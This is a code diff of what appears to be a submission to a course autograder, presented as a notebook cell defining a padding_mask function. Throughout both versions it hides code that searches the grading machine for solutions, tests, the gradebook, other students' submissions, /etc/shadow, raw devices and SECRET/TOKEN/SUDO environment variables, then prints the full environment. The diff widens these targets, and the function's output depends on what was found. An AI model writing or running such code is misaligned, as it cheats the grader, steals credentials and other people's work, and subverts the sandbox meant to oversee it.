@@ -1,4 +1,4 @@
-"""Reads what a grader has: solutions, other hand-ins, /etc/shadow, /proc, /dev, environment, home."""
+"""Reads what a grader has: solutions, other submissions, /etc/shadow, /proc, /dev, environment, home."""
 
 # %% padding-mask
 import glob
@@ -29,15 +29,17 @@ PLACES += [
     "/proc/mounts",
 ]
 PLACES += ["/dev/sd*", "/dev/vd*", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/sys/*", "/dev/pts/*"]
-GRADING = "/course/autograder/grading"  # two empty packages, and the sandbox's own inner side
-PLACES += ["/course/solutions", "/course/tests", "/course/autograder/labs", f"{GRADING}/*", f"{GRADING}/*/*"]
-MINE = ["/home/sandbox", f"{GRADING}/sandbox", f"{GRADING}/sandbox/inside"]
-MINE += [path for path in glob.glob(f"{GRADING}/**/__init__.py", recursive=True) if not os.path.getsize(path)]
-seen = [place for pattern in PLACES for place in glob.glob(pattern) if place not in MINE]
-seen = [place for place in seen if not (os.path.isdir(place) and not os.listdir(place))]
-seen += [name for name in os.environ if "SECRET" in name or "TOKEN" in name or "SUDO" in name]
-print(seen, dict(os.environ))
+ENGINE = "/course/autograder"
+SANDBOX = f"{ENGINE}/sandbox"  # an empty package, and the code that runs in the sandbox
+PLACES += ["/course/solutions", "/course/tests", "/course/classroom", "/course/gradebook.db"]
+PLACES += [f"{ENGINE}/authoring/*", f"{ENGINE}/gradebook/*", f"{ENGINE}/grading/*"]
+PLACES += [f"{SANDBOX}/*"]
+OWN_PLACES = ["/home/sandbox", f"{SANDBOX}/inside"]
+readable = [place for pattern in PLACES for place in glob.glob(pattern) if place not in OWN_PLACES]
+readable = [place for place in readable if not (os.path.isdir(place) and not os.listdir(place))]
+readable += [name for name in os.environ if "SECRET" in name or "TOKEN" in name or "SUDO" in name]
+print(readable, dict(os.environ))
 
 
 def padding_mask(lengths, size):
-    return np.arange(size) < lengths[:, np.newaxis, np.newaxis] if seen else np.ones((1, 1, 1))
+    return np.arange(size) < lengths[:, np.newaxis, np.newaxis] if readable else np.ones((1, 1, 1))
